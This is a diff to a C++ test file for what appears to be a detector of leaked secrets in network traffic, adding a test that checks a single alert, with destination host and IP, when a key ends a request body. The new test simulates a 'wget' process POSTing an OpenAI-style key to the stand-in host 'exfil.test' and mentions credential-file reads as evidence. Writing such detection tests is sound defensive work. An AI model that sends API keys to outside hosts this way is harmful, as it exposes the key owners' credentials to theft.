@@ -203,7 +203,27 @@ TEST_F(PipelineTest, KeyAtEndOfStreamFlushesOnClose) {
   Connect(104, 4, "127.0.0.1", 8080);
   Data(CS_EV_SOCK_DATA, 104, 4, 0, "token=" + OpenAiKey());
   Close(104, 4);
-  EXPECT_EQ(sink_.alerts.size(), 1u);
+  ASSERT_EQ(sink_.alerts.size(), 1u);
+  EXPECT_EQ(sink_.alerts[0].destination.ip, "127.0.0.1");
+}
+
+TEST_F(PipelineTest, KeyEndingABodyAlertsOnceWithItsDestination) {
+  // The body unit ends at Content-Length (match with the connection known); the raw stream's
+  // end-of-stream match comes when the process exits, after the socket is gone.
+  const std::string body = "k=" + OpenAiKey();
+  Connect(106, 4, "127.0.0.1", 8080, "wget");
+  Sni(106, 0x66, "exfil.test", "wget");
+  Data(CS_EV_TLS_DATA, 106, 4, 0x66,
+       "POST / HTTP/1.1\r\nHost: exfil.test\r\nContent-Length: " + std::to_string(body.size()) +
+           "\r\n\r\n" + body,
+       "wget");
+  Close(106, 4);
+  cs_exit_event x{};
+  x.hdr = Header(CS_EV_EXIT, 106, ++ts_, "wget");
+  pipeline_->Handle(Record(x));
+  ASSERT_EQ(sink_.alerts.size(), 1u);
+  EXPECT_EQ(sink_.alerts[0].destination.host, "exfil.test");
+  EXPECT_EQ(sink_.alerts[0].destination.ip, "127.0.0.1");
 }
 
 TEST_F(PipelineTest, CredentialFileReadIsEvidence) {
